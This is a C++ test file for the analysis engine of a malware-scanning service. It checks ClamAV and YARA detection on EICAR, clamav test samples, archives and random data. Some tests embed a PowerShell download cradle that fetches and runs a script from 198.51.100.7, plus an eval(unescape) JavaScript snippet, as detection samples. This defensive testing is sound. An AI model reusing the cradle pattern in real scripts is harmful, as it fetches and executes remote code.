#include "analysis/engine.h"

#include <gtest/gtest.h>
#include <stdlib.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "analysis/file_type.h"
#include "analysis/test_samples.h"

namespace sandgate::analysis {
namespace {

namespace fs = std::filesystem;

constexpr const char* kTestFiles = "/usr/share/clamav-testfiles";

using test_samples::Eicar;

// A scratch directory removed with everything in it.
class TempDir {
 public:
  TempDir() {
    std::string tmpl = testing::TempDir() + "sg_analysis_XXXXXX";
    if (mkdtemp(tmpl.data()) != nullptr) path_ = tmpl;
  }
  ~TempDir() {
    std::error_code ec;
    if (!path_.empty()) fs::remove_all(path_, ec);
  }
  const std::string& path() const { return path_; }
  std::string Write(const std::string& name, const std::string& bytes) const {
    const std::string p = path_ + "/" + name;
    std::ofstream(p, std::ios::binary) << bytes;
    return p;
  }

 private:
  std::string path_;
};

std::string ReadAll(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

uint32_t Crc32(const std::string& data) {
  uint32_t crc = 0xFFFFFFFFu;
  for (unsigned char c : data) {
    crc ^= c;
    for (int k = 0; k < 8; ++k) crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
  }
  return ~crc;
}

void Put16(std::string* out, uint32_t v) {
  out->push_back(static_cast<char>(v & 0xff));
  out->push_back(static_cast<char>((v >> 8) & 0xff));
}
void Put32(std::string* out, uint32_t v) {
  Put16(out, v & 0xffff);
  Put16(out, v >> 16);
}

// A minimal zip archive with "stored" (uncompressed) entries.
std::string StoredZip(const std::vector<std::pair<std::string, std::string>>& entries) {
  std::string out;
  std::string central;
  for (const auto& [name, data] : entries) {
    const uint32_t offset = static_cast<uint32_t>(out.size());
    const uint32_t crc = Crc32(data);
    const auto size = static_cast<uint32_t>(data.size());
    Put32(&out, 0x04034b50);  // local file header
    Put16(&out, 20);          // version needed
    Put16(&out, 0);           // flags
    Put16(&out, 0);           // method: stored
    Put16(&out, 0);           // time
    Put16(&out, 0x21);        // date 1980-01-01
    Put32(&out, crc);
    Put32(&out, size);
    Put32(&out, size);
    Put16(&out, static_cast<uint32_t>(name.size()));
    Put16(&out, 0);
    out += name;
    out += data;

    Put32(&central, 0x02014b50);  // central directory header
    Put16(&central, 20);
    Put16(&central, 20);
    Put16(&central, 0);
    Put16(&central, 0);
    Put16(&central, 0);
    Put16(&central, 0x21);
    Put32(&central, crc);
    Put32(&central, size);
    Put32(&central, size);
    Put16(&central, static_cast<uint32_t>(name.size()));
    Put16(&central, 0);  // extra
    Put16(&central, 0);  // comment
    Put16(&central, 0);  // disk
    Put16(&central, 0);  // internal attributes
    Put32(&central, 0);  // external attributes
    Put32(&central, offset);
    central += name;
  }
  const auto cd_offset = static_cast<uint32_t>(out.size());
  out += central;
  Put32(&out, 0x06054b50);  // end of central directory
  Put16(&out, 0);
  Put16(&out, 0);
  Put16(&out, static_cast<uint32_t>(entries.size()));
  Put16(&out, static_cast<uint32_t>(entries.size()));
  Put32(&out, static_cast<uint32_t>(central.size()));
  Put32(&out, cd_offset);
  Put16(&out, 0);
  return out;
}

class EngineTest : public testing::Test {
 protected:
  static void SetUpTestSuite() {
    Result<std::shared_ptr<Engine>> e = Engine::Load(EngineConfig{});
    if (e.ok()) {
      engine_ = std::move(e).value();
    } else {
      load_error_ = new std::string(e.status().message());
    }
  }
  static void TearDownTestSuite() {
    engine_.reset();
    delete load_error_;
    load_error_ = nullptr;
  }
  void SetUp() override {
    ASSERT_NE(engine_, nullptr) << (load_error_ != nullptr ? *load_error_ : "");
  }

  static Analysis Analyze(const std::string& path) {
    Result<Analysis> a = engine_->AnalyzeFile(path);
    EXPECT_TRUE(a.ok()) << path << ": " << a.status().message();
    return a.ok() ? std::move(a).value() : Analysis{};
  }

  static std::shared_ptr<Engine> engine_;
  static std::string* load_error_;
  TempDir tmp_;
};

std::shared_ptr<Engine> EngineTest::engine_;
std::string* EngineTest::load_error_ = nullptr;

TEST_F(EngineTest, LoadsOwnSignaturesAndRules) {
  // 1 EICAR body signature + one hash per clamav-testfiles sample.
  EXPECT_GE(engine_->signature_count(), 40u);
  EXPECT_GE(engine_->rule_count(), 10u);
  EXPECT_EQ(engine_->config().signatures_dir, SANDGATE_SOURCE_DIR "/share/signatures");
}

TEST_F(EngineTest, EicarIsAVirusWithTheNdbName) {
  const std::string eicar = Eicar();
  ASSERT_EQ(eicar.size(), 68u);
  const Analysis a = Analyze(tmp_.Write("eicar.com", eicar));
  EXPECT_EQ(a.quick.virus_name, "Eicar-Test-Signature");
  EXPECT_EQ(a.quick.virus_type, "Virus");
  EXPECT_EQ(a.quick.hashes.md5, "44d88612fea8a8f36de82e1278abb02f");
  EXPECT_EQ(a.quick.hashes.size, 68u);
  EXPECT_EQ(a.verdict.type, VerdictType::kMalicious);
  EXPECT_GE(a.verdict.score, 90);
  EXPECT_EQ(a.verdict.submission, "Virus");
  EXPECT_EQ(a.verdict.category, "MALWARE_BOTNET");
  EXPECT_EQ(a.verdict.detected_malware, "Eicar-Test-Signature");

  // The EICAR rules allow trailing whitespace.
  const Analysis padded = Analyze(tmp_.Write("eicar2.txt", eicar + "  \r\n"));
  EXPECT_EQ(padded.quick.virus_name, "Eicar-Test-Signature");
}

TEST_F(EngineTest, EicarInsideStoredZipIsAVirus) {
  const std::string zip =
      StoredZip({{"readme.txt", "nothing to see\n"}, {"docs/eicar.com", Eicar()}});
  const Analysis a = Analyze(tmp_.Write("bundle.zip", zip));
  EXPECT_EQ(a.quick.file_type, "zip");
  EXPECT_EQ(a.quick.category, "ARCHIVE");
  EXPECT_EQ(a.quick.virus_name, "Eicar-Test-Signature");
  EXPECT_EQ(a.verdict.type, VerdictType::kMalicious);
  EXPECT_EQ(a.verdict.submission, "Virus");
}

TEST_F(EngineTest, EicarInsideDeflatedZipFromZipCommandIsAVirus) {
  if (std::system("command -v zip >/dev/null 2>&1") != 0) GTEST_SKIP() << "zip not installed";
  // Pad so that zip really deflates the member.
  tmp_.Write("eicar.txt", Eicar() + std::string(60, ' '));
  tmp_.Write("filler.txt", std::string(4096, 'x'));
  const std::string cmd = "cd '" + tmp_.path() + "' && zip -q -9 out.zip eicar.txt filler.txt";
  ASSERT_EQ(std::system(cmd.c_str()), 0);
  const Analysis a = Analyze(tmp_.path() + "/out.zip");
  EXPECT_EQ(a.quick.file_type, "zip");
  EXPECT_EQ(a.quick.virus_name, "Eicar-Test-Signature");
  EXPECT_EQ(a.verdict.type, VerdictType::kMalicious);
}

TEST_F(EngineTest, ClamavTestFilesAreViruses) {
  ASSERT_TRUE(fs::is_directory(kTestFiles)) << "install clamav-testfiles";
  struct Case {
    const char* name;
    const char* type;
    const char* category;
  };
  const Case cases[] = {
      {"clam.exe", "exe", "EXECS"},     {"clam-upx.exe", "exe", "EXECS"},
      {"clam.zip", "zip", "ARCHIVE"},   {"clam.7z", "7z", "ARCHIVE"},
      {"clam.cab", "cab", "ARCHIVE"},   {"clam.arj", "arj", "ARCHIVE"},
      {"clam.tar.gz", "gz", "ARCHIVE"}, {"clam.exe.bz2", "bz2", "ARCHIVE"},
      {"clam.ole.doc", "doc", "DOCS"},  {"clam.ppt", "ppt", "DOCS"},
      {"clam.pdf", "pdf", "PDF"},       {"clam.exe.html", "html", "SCRIPT"},
      {"clam.exe.rtf", "rtf", "DOCS"},  {"clam.chm", "chm", "DOCS"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    const Analysis a = Analyze(std::string(kTestFiles) + "/" + c.name);
    EXPECT_EQ(a.quick.file_type, c.type);
    EXPECT_EQ(a.quick.category, c.category);
    EXPECT_TRUE(a.quick.virus_name.starts_with("Clamav.Test.File-")) << a.quick.virus_name;
    EXPECT_EQ(a.quick.virus_type, "Virus");
    EXPECT_EQ(a.verdict.type, VerdictType::kMalicious);
    EXPECT_EQ(a.verdict.submission, "Virus");
    EXPECT_GE(a.verdict.score, 90);
    EXPECT_FALSE(a.quick.ssdeep.empty());
  }
}

TEST_F(EngineTest, InnerClamExeIsFoundInAFreshArchive) {
  const std::string clam = ReadAll(std::string(kTestFiles) + "/clam.exe");
  ASSERT_FALSE(clam.empty()) << "install clamav-testfiles";
  // A new archive (its own hash is in no database) holding clam.exe under another name.
  const Analysis a = Analyze(tmp_.Write("fresh.zip", StoredZip({{"setup.bin", clam}})));
  EXPECT_EQ(a.quick.virus_name, "Clamav.Test.File-clam.exe");
  EXPECT_EQ(a.verdict.type, VerdictType::kMalicious);
}

TEST_F(EngineTest, BinLsIsABenignElf) {
  const Analysis a = Analyze("/bin/ls");
  EXPECT_EQ(a.quick.file_type, "elf");
  EXPECT_EQ(a.quick.category, "EXECS");
  EXPECT_TRUE(a.quick.virus_name.empty());
  EXPECT_EQ(a.verdict.type, VerdictType::kBenign);
  EXPECT_EQ(a.verdict.submission, "Clean");
  EXPECT_EQ(a.verdict.category, "BENIGN");
  EXPECT_LT(a.verdict.score, 30);
  for (const Finding& f : a.statics.findings) ADD_FAILURE() << "unexpected finding " << f.rule;
}

// This test binary is a normal g++-built, dynamically linked ELF like `sandgate` itself, and it
// even quotes PowerShell/JavaScript markers and the EICAR halves: it must stay clean.
// A sanitizer build of it is some 370 MB; what ClamAV reads of it (the file and what it unpacks)
// then passes the default 512 MiB scan limit, and the limit heuristic would flag it. Such a binary
// is scanned by an engine whose limit fits it: the test is about the signatures, not the limit.
TEST_F(EngineTest, OwnBinaryIsBenign) {
  const uint64_t size = std::filesystem::file_size("/proc/self/exe");
  std::shared_ptr<Engine> engine = engine_;
  EngineConfig roomy;
  if (4 * size > roomy.av_scan_limit) {
    roomy.av_scan_limit = 4 * size;
    Result<std::shared_ptr<Engine>> e = Engine::Load(roomy);
    ASSERT_TRUE(e.ok()) << e.status().message();
    engine = std::move(e).value();
  }
  Result<Analysis> scanned = engine->AnalyzeFile("/proc/self/exe");
  ASSERT_TRUE(scanned.ok()) << scanned.status().message();
  const Analysis& a = scanned.value();
  EXPECT_EQ(a.quick.file_type, "elf");
  EXPECT_TRUE(a.quick.virus_name.empty()) << a.quick.virus_name;
  EXPECT_EQ(a.verdict.type, VerdictType::kBenign);
  EXPECT_EQ(a.verdict.submission, "Clean");
  for (const Finding& f : a.statics.findings) ADD_FAILURE() << "unexpected finding " << f.rule;
}

TEST_F(EngineTest, RandomMebibyteGetsAVerdict) {
  std::mt19937_64 rng(20240611);
  std::string data(1 << 20, '\0');
  for (size_t i = 0; i < data.size(); i += 8) {
    const uint64_t v = rng();
    for (size_t k = 0; k < 8; ++k) data[i + k] = static_cast<char>(v >> (8 * k));
  }
  const Analysis a = Analyze(tmp_.Write("random.bin", data));
  std::cout << "[ random 1 MiB ] type=" << a.quick.file_type << " entropy=" << a.quick.entropy
            << " verdict=" << VerdictTypeName(a.verdict.type) << " score=" << a.verdict.score
            << " submission=" << a.verdict.submission << "\n";
  EXPECT_EQ(a.quick.file_type, "bin");
  EXPECT_FALSE(a.quick.identified);
  EXPECT_GT(a.quick.entropy, 7.99);
  EXPECT_TRUE(a.verdict.type == VerdictType::kSuspicious ||
              a.verdict.type == VerdictType::kUnknown);
  // The documented rule: high entropy alone -> SUSPICIOUS with the low-moderate indicator score.
  EXPECT_EQ(a.verdict.type, VerdictType::kSuspicious);
  EXPECT_EQ(a.verdict.score, 30);
  EXPECT_EQ(a.verdict.submission, "Suspicious");
  bool blob = false;
  for (const Finding& f : a.statics.findings) blob |= f.rule == "Sandgate_HighEntropy_Blob";
  EXPECT_TRUE(blob);
}

TEST_F(EngineTest, LowEntropyUnknownDataIsUnknown) {
  std::mt19937 rng(7);
  const char alphabet[] = {1, 2, 3, static_cast<char>(0xfe), static_cast<char>(0x80)};
  std::string data(4096, '\0');
  for (char& c : data) c = alphabet[rng() % 5];
  const Analysis a = Analyze(tmp_.Write("blob.dat", data));
  EXPECT_EQ(a.quick.file_type, "bin");
  EXPECT_EQ(a.verdict.type, VerdictType::kUnknown);
  EXPECT_EQ(a.verdict.submission, "Unknown");
  EXPECT_LT(a.verdict.score, 30);
}

TEST_F(EngineTest, FileTypeNamesOfFilesWeCreate) {
  struct Case {
    const char* name;
    std::string bytes;
    const char* type;
    const char* category;
  };
  const Case cases[] = {
      {"a.pdf",
       "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
       "pdf", "PDF"},
      {"a.zip", StoredZip({{"hello.txt", "hello\n"}}), "zip", "ARCHIVE"},
      {"a.txt", "Hello, this is a plain text note.\nNothing else.\n", "txt", "OTHER"},
      {"a.html", "<!DOCTYPE html><html><head><title>x</title></head><body>hi</body></html>\n",
       "html", "SCRIPT"},
      {"a.ps1", "param($Name)\nWrite-Host \"Hello $Name\"\n$env:PATH\n", "ps1", "SCRIPT"},
      {"a.sh", "#!/bin/sh\necho hello\n", "sh", "SCRIPT"},
      {"a.jar", StoredZip({{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"}}), "jar", "JAR"},
      {"empty", "", "empty", "OTHER"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    const Analysis a = Analyze(tmp_.Write(c.name, c.bytes));
    EXPECT_EQ(a.quick.file_type, c.type) << a.quick.mime << " / " << a.quick.description;
    EXPECT_EQ(a.quick.category, c.category);
    EXPECT_TRUE(a.quick.identified);
    EXPECT_EQ(a.verdict.type, VerdictType::kBenign);
    EXPECT_EQ(a.verdict.submission, "Clean");
  }
}

// A small upload is analysed from memory (issue 19, target 3): the same answer as from the file,
// for text, documents, archives, executables, a virus inside an archive and rules that match
// (Quick and Static both).
TEST_F(EngineTest, AnalysisFromMemoryEqualsAnalysisFromTheFile) {
  const std::string elf = ReadAll("/bin/ls");
  ASSERT_GT(elf.size(), 1000u);
  const std::string kCradle =
      "$c = New-Object Net.WebClient\n"
      "IEX ($c.DownloadString('http://198.51.100.7/stage2.ps1'))\n";
  std::mt19937 rng(7);
  std::string random(64 * 1024, '\0');
  for (char& c : random) c = static_cast<char>(rng());
  const std::pair<const char*, std::string> cases[] = {
      {"a.txt", "Hello, this is a plain text note.\r\nNothing else.\r\n"},
      {"a.pdf",
       "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"},
      {"a.html", "<!DOCTYPE html><html><head><title>x</title></head><body>hi</body></html>\n"},
      {"a.sh", "#!/bin/sh\necho hello\n"},
      {"eicar.com", Eicar()},
      {"bundle.zip", StoredZip({{"readme.txt", "nothing to see\n"}, {"docs/eicar.com", Eicar()}})},
      {"ls", elf},
      {"random.bin", random},
      {"one", "x"},
      // Rules that match: in the file itself and in an archive member.
      {"cradle.ps1", kCradle},
      {"scripts.zip", StoredZip({{"readme.txt", "hi\n"}, {"run/cradle.ps1", kCradle}})},
  };
  std::vector<std::pair<std::string, std::string>> files(std::begin(cases), std::end(cases));
  // And every clamav-testfiles sample (executables, archives, OLE2 and RTF documents, CHM, ...).
  ASSERT_TRUE(fs::is_directory(kTestFiles)) << "install clamav-testfiles";
  for (const auto& e : fs::directory_iterator(kTestFiles)) {
    if (!e.is_regular_file() || e.file_size() > (1u << 20)) continue;
    files.emplace_back(e.path().filename().string(), ReadAll(e.path().string()));
  }
  ASSERT_GT(files.size(), std::size(cases) + 20);
  for (const auto& [name, bytes] : files) {
    SCOPED_TRACE(name);
    const std::string path = tmp_.Write(name, bytes);
    Hashes h;
    h.size = bytes.size();
    Result<QuickResult> file = engine_->Quick(path, h, 0);
    Result<QuickResult> mem = engine_->Quick(path, h, 0, true, std::string_view(bytes));
    ASSERT_TRUE(file.ok()) << file.status().message();
    ASSERT_TRUE(mem.ok()) << mem.status().message();
    EXPECT_EQ(mem->mime, file->mime);
    EXPECT_EQ(mem->description, file->description);
    EXPECT_EQ(mem->file_type, file->file_type);
    EXPECT_EQ(mem->category, file->category);
    EXPECT_EQ(mem->identified, file->identified);
    EXPECT_EQ(mem->ssdeep, file->ssdeep);
    EXPECT_EQ(mem->virus_name, file->virus_name);
    EXPECT_EQ(mem->virus_type, file->virus_type);
    EXPECT_EQ(mem->av_error, file->av_error);
    if (name == "eicar.com" || name == "bundle.zip") {
      EXPECT_EQ(mem->virus_name, "Eicar-Test-Signature");
    }
    // The rules, on the bytes in memory and on the mapped file.
    Result<StaticResult> sfile = engine_->Static(path, name);
    Result<StaticResult> smem = engine_->Static(path, name, std::string_view(bytes));
    ASSERT_TRUE(sfile.ok()) << sfile.status().message();
    ASSERT_TRUE(smem.ok()) << smem.status().message();
    auto rules = [](const StaticResult& r) {
      std::vector<std::string> out;
      for (const Finding& f : r.findings)
        out.push_back(f.rule + "|" + f.member + "|" + f.signature);
      return out;
    };
    EXPECT_EQ(rules(*smem), rules(*sfile));
    EXPECT_EQ(smem->score, sfile->score);
    EXPECT_EQ(smem->members_scanned, sfile->members_scanned);
    EXPECT_EQ(smem->timed_out, sfile->timed_out);
    if (name == "cradle.ps1") {
      ASSERT_EQ(smem->findings.size(), 1u);
      EXPECT_EQ(smem->findings[0].rule, "Sandgate_PowerShell_Download_Cradle");
    }
    if (name == "scripts.zip") {  // its members were extracted and given to the rules
      EXPECT_FALSE(smem->findings.empty());
      EXPECT_GE(smem->members_scanned, 1u);
    }
  }
}

TEST_F(EngineTest, YaraFindsAPowerShellDownloadCradle) {
  const std::string script =
      "$c = New-Object Net.WebClient\n"
      "IEX ($c.DownloadString('http://198.51.100.7/stage2.ps1'))\n";
  const Analysis a = Analyze(tmp_.Write("cradle.ps1", script));
  EXPECT_EQ(a.quick.file_type, "ps1");
  ASSERT_EQ(a.statics.findings.size(), 1u);
  const Finding& f = a.statics.findings[0];
  EXPECT_EQ(f.rule, "Sandgate_PowerShell_Download_Cradle");
  EXPECT_EQ(f.risk, Risk::kHigh);
  EXPECT_EQ(RiskName(f.risk), "HIGH");
  EXPECT_EQ(f.section, "Networking");
  EXPECT_NE(f.signature.find("download cradle"), std::string::npos);
  EXPECT_EQ(f.signature_sources,
            std::vector<std::string>{"YARA:Sandgate_PowerShell_Download_Cradle"});
  EXPECT_EQ(a.statics.score, 50);
  EXPECT_EQ(a.verdict.type, VerdictType::kSuspicious);
  EXPECT_EQ(a.verdict.score, 50);
  EXPECT_EQ(a.verdict.submission, "Suspicious");
  EXPECT_EQ(a.verdict.category, "SUSPICIOUS");
}

TEST_F(EngineTest, YaraFindsJavaScriptEvalUnescape) {
  const std::string js =
      "var p = '%61%6c%65%72%74%28%31%29';\n"
      "eval(unescape(p));\n";
  const Analysis a = Analyze(tmp_.Write("x.js", js));
  ASSERT_EQ(a.statics.findings.size(), 1u);
  EXPECT_EQ(a.statics.findings[0].rule, "Sandgate_JS_Eval_Unescape");
  EXPECT_EQ(a.statics.findings[0].risk, Risk::kModerate);
  EXPECT_EQ(a.verdict.type, VerdictType::kSuspicious);
  EXPECT_EQ(a.verdict.score, 30);
}

TEST_F(EngineTest, MissingFileIsAnError) {
  const std::string missing = tmp_.path() + "/does-not-exist";
  EXPECT_FALSE(engine_->Quick(missing, Hashes{}, 0).ok());
  EXPECT_FALSE(engine_->Static(missing).ok());
  Result<Analysis> a = engine_->AnalyzeFile(missing);
  ASSERT_FALSE(a.ok());
  EXPECT_EQ(a.status().http_status(), 500);
}

TEST_F(EngineTest, ConcurrentScansOnOneEngine) {
  const std::string eicar = tmp_.Write("eicar.com", Eicar());
  const std::string text = tmp_.Write("note.txt", "just a note\n");
  std::atomic<int> failures{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 25; ++i) {
        const bool bad = (i + t) % 2 == 0;
        Result<Analysis> a = engine_->AnalyzeFile(bad ? eicar : text);
        if (!a.ok() || (a->verdict.type == VerdictType::kMalicious) != bad) ++failures;
      }
    });
  }
  for (std::thread& th : threads) th.join();
  EXPECT_EQ(failures.load(), 0);
}

// Load time and the engine-only cost of one small clean file, for comparison with the HTTP path.
TEST_F(EngineTest, ReportsTimings) {
  using Clock = std::chrono::steady_clock;
  const auto t0 = Clock::now();
  Result<std::shared_ptr<Engine>> fresh = Engine::Load(EngineConfig{});
  const auto t1 = Clock::now();
  ASSERT_TRUE(fresh.ok());

  std::string kib;
  for (int i = 0; kib.size() < 1024; ++i) kib += "line " + std::to_string(i) + " of a clean text\n";
  kib.resize(1024);
  const std::string path = tmp_.Write("clean.txt", kib);
  Result<FileDigest> d = DigestFile(path);
  ASSERT_TRUE(d.ok());
  constexpr int kRuns = 200;
  double quick_us = 0;
  double static_us = 0;
  for (int i = 0; i < kRuns; ++i) {
    const auto a = Clock::now();
    Result<QuickResult> q = (*fresh)->Quick(path, d->hashes, d->entropy);
    const auto b = Clock::now();
    Result<StaticResult> s = (*fresh)->Static(path);
    const auto c = Clock::now();
    ASSERT_TRUE(q.ok() && s.ok());
    ASSERT_EQ(Classify(*q, &*s).type, VerdictType::kBenign);
    quick_us += std::chrono::duration<double, std::micro>(b - a).count();
    static_us += std::chrono::duration<double, std::micro>(c - b).count();
  }
  const double load_ms = std::chrono::duration<double, std::milli>(t1 - t0).count();
  std::cout << "[ timings ] Engine::Load " << load_ms << " ms; 1 KiB clean file: Quick "
            << quick_us / kRuns << " us + Static " << static_us / kRuns << " us (mean of " << kRuns
            << ")\n";
  RecordProperty("load_ms", std::to_string(load_ms));
  RecordProperty("quick_us", std::to_string(quick_us / kRuns));
  RecordProperty("static_us", std::to_string(static_us / kRuns));
}

// --- Reload -------------------------------------------------------------------------------------

TEST_F(EngineTest, ReloadSwapsEnginesAndInFlightHoldersKeepWorking) {
  Result<std::unique_ptr<EngineHolder>> holder = EngineHolder::Open(EngineConfig{});
  ASSERT_TRUE(holder.ok()) << holder.status().message();
  EngineHolder& h = **holder;
  EXPECT_EQ(h.generation(), 1u);
  const std::string eicar = tmp_.Write("eicar.com", Eicar());
  const std::string text = tmp_.Write("note.txt", "just a note\n");

  std::shared_ptr<const Engine> in_flight = h.Get();
  ASSERT_TRUE(h.Reload().ok());
  EXPECT_EQ(h.generation(), 2u);
  std::shared_ptr<const Engine> current = h.Get();
  EXPECT_NE(current.get(), in_flight.get());
  // The old engine is still fully usable by whoever holds it.
  Result<Analysis> old_scan = in_flight->AnalyzeFile(eicar);
  ASSERT_TRUE(old_scan.ok());
  EXPECT_EQ(old_scan->quick.virus_name, "Eicar-Test-Signature");
  in_flight.reset();

  // Scans keep succeeding while engines are swapped underneath them.
  std::atomic<bool> stop{false};
  std::atomic<int> scans{0};
  std::atomic<int> failures{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 3; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; !stop.load() || i < 5; ++i) {
        std::shared_ptr<const Engine> e = h.Get();
        const bool bad = (i + t) % 2 == 0;
        Result<Analysis> a = e->AnalyzeFile(bad ? eicar : text);
        if (!a.ok() || (a->verdict.type == VerdictType::kMalicious) != bad) ++failures;
        ++scans;
      }
    });
  }
  for (int r = 0; r < 3; ++r) ASSERT_TRUE(h.Reload().ok());
  stop = true;
  for (std::thread& th : threads) th.join();
  EXPECT_EQ(failures.load(), 0);
  EXPECT_GE(scans.load(), 15);
  EXPECT_EQ(h.generation(), 5u);
}

TEST_F(EngineTest, BrokenRulesDirMakesReloadFailAndKeepsTheOldEngine) {
  Result<std::unique_ptr<EngineHolder>> holder = EngineHolder::Open(EngineConfig{});
  ASSERT_TRUE(holder.ok());
  EngineHolder& h = **holder;
  std::shared_ptr<const Engine> before = h.Get();

  // A copy of the shipped rules plus one file with a syntax error.
  const std::string rules = tmp_.path() + "/rules";
  fs::create_directory(rules);
  for (const auto& entry : fs::directory_iterator(EngineConfig{}.rules_dir)) {
    fs::copy_file(entry.path(), rules + "/" + entry.path().filename().string());
  }
  std::ofstream(rules + "/zz_broken.yar") << "rule Broken { condition: this is not yara }\n";
  EngineConfig broken;
  broken.rules_dir = rules;
  broken.rules_strict = true;  // all or nothing (the default skips the file: RulesTest)
  Status st = h.Reload(broken);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.message().find("zz_broken.yar"), std::string::npos) << st.message();
  EXPECT_EQ(h.Get().get(), before.get());
  EXPECT_EQ(h.generation(), 1u);

  // An unknown severity word is refused too when strict.
  std::ofstream(rules + "/zz_broken.yar", std::ios::trunc)
      << "rule BadSeverity { meta: severity = \"banana\" condition: false }\n";
  st = h.Reload(broken);
  ASSERT_FALSE(st.ok());
  EXPECT_NE(st.message().find("BadSeverity"), std::string::npos) << st.message();

  // Missing directories.
  EngineConfig missing;
  missing.rules_dir = tmp_.path() + "/no-such-dir";
  EXPECT_FALSE(h.Reload(missing).ok());
  missing = EngineConfig{};
  missing.signatures_dir = tmp_.path() + "/no-such-dir";
  EXPECT_FALSE(h.Reload(missing).ok());
  EXPECT_EQ(h.Get().get(), before.get());

  // The held config was not replaced by the failed ones: a plain reload still works.
  EXPECT_TRUE(h.Reload().ok());
  EXPECT_EQ(h.generation(), 2u);

  // Once fixed, the new directory is adopted.
  fs::remove(rules + "/zz_broken.yar");
  std::ofstream(rules + "/zz_extra.yar") << "rule Sandgate_Test_Marker { meta: severity = \"LOW\" "
                                            "strings: $m = \"sandgate-marker-7f3a\""
                                            " condition: $m }\n";
  ASSERT_TRUE(h.Reload(broken).ok());
  EXPECT_EQ(h.generation(), 3u);
  Result<Analysis> a = h.Get()->AnalyzeFile(tmp_.Write("m.txt", "x sandgate-marker-7f3a x\n"));
  ASSERT_TRUE(a.ok());
  ASSERT_EQ(a->statics.findings.size(), 1u);
  EXPECT_EQ(a->statics.findings[0].signature, "Sandgate_Test_Marker");  // no description: rule name
  EXPECT_EQ(a->verdict.type, VerdictType::kBenign);                     // one LOW finding
  EXPECT_EQ(a->verdict.score, 10);
}

TEST_F(EngineTest, RuleFilesImportingPeOrElfRunOnlyOnSuchFiles) {
  const std::string rules = tmp_.path() + "/rules";
  fs::create_directory(rules);
  std::ofstream(rules + "/any.yar") << "rule T_Any { meta: severity = \"LOW\" condition: true }\n";
  std::ofstream(rules + "/pe.yar") << "// comment\n/* block */ import \"pe\"\n"
                                      "rule T_Pe { meta: severity = \"LOW\" condition: true }\n";
  std::ofstream(rules + "/elf.yar") << "import \"elf\"\n"
                                       "rule T_Elf { meta: severity = \"LOW\" condition: true }\n";
  EngineConfig config;
  config.rules_dir = rules;
  config.gate_by_import = true;  // as for the shipped rules
  Result<std::shared_ptr<Engine>> e = Engine::Load(config);
  ASSERT_TRUE(e.ok()) << e.status().message();
  EXPECT_EQ((*e)->rule_count(), 3u);
  auto rules_matching = [&](const std::string& path) {
    Result<StaticResult> s = (*e)->Static(path);
    EXPECT_TRUE(s.ok()) << s.status().message();
    std::vector<std::string> names;
    if (s.ok()) {
      for (const Finding& f : s->findings) names.push_back(f.rule);
    }
    return names;
  };
  using V = std::vector<std::string>;
  EXPECT_EQ(rules_matching(tmp_.Write("t.txt", "text\n")), (V{"T_Any"}));
  EXPECT_EQ(rules_matching(tmp_.Write("empty", "")), (V{"T_Any"}));
  EXPECT_EQ(rules_matching(std::string(kTestFiles) + "/clam.exe"), (V{"T_Any", "T_Pe"}));
  EXPECT_EQ(rules_matching("/bin/ls"), (V{"T_Any", "T_Elf"}));

  // Rule names must be unique across files and groups (strict; otherwise a warning).
  std::ofstream(rules + "/dup.yar") << "rule T_Pe { meta: severity = \"LOW\" condition: true }\n";
  config.rules_strict = true;
  Result<std::shared_ptr<Engine>> dup = Engine::Load(config);
  ASSERT_FALSE(dup.ok());
  EXPECT_NE(dup.status().message().find("T_Pe"), std::string::npos) << dup.status().message();
}

// --- Pure functions -----------------------------------------------------------------------------

QuickResult Quick(std::string type, bool identified, std::string virus = "") {
  QuickResult q;
  q.file_type = std::move(type);
  q.identified = identified;
  q.virus_name = std::move(virus);
  q.virus_type = VirusTypeFromName(q.virus_name);
  q.hashes.size = 4096;
  q.entropy = 5.0;
  return q;
}

StaticResult StaticWith(std::initializer_list<Risk> risks) {
  StaticResult s;
  int score = 0;
  for (Risk r : risks) {
    Finding f;
    f.risk = r;
    s.findings.push_back(f);
    score += r == Risk::kHigh ? 50 : r == Risk::kModerate ? 30 : 10;
  }
  s.score = std::min(score, 89);
  return s;
}

TEST(ClassifyTest, AvHitIsMalicious) {
  const Verdict v = Classify(Quick("exe", true, "Win.Trojan.Agent-1"), nullptr);
  EXPECT_EQ(v.type, VerdictType::kMalicious);
  EXPECT_EQ(v.score, 95);
  EXPECT_EQ(v.category, "MALWARE_BOTNET");
  EXPECT_EQ(v.detected_malware, "Win.Trojan.Agent-1");
  EXPECT_EQ(v.submission, "Virus");
  const StaticResult high = StaticWith({Risk::kHigh});
  EXPECT_EQ(Classify(Quick("exe", true, "Win.Trojan.Agent-1"), &high).score, 100);
  EXPECT_EQ(Classify(Quick("exe", true, "Win.Adware.Foo-2"), nullptr).category, "ADWARE");
  EXPECT_EQ(Classify(Quick("exe", true, "PUA.Win.Tool.Bar"), nullptr).category, "ADWARE");
}

TEST(ClassifyTest, StaticFindings) {
  const StaticResult low = StaticWith({Risk::kLow});
  const StaticResult lows = StaticWith({Risk::kLow, Risk::kLow, Risk::kLow});
  const StaticResult moderate = StaticWith({Risk::kModerate});
  const StaticResult lots = StaticWith({Risk::kHigh, Risk::kHigh, Risk::kModerate});
  EXPECT_EQ(Classify(Quick("exe", true), &low).type, VerdictType::kBenign);
  EXPECT_EQ(Classify(Quick("exe", true), &low).score, 10);
  EXPECT_EQ(Classify(Quick("exe", true), &lows).type, VerdictType::kSuspicious);
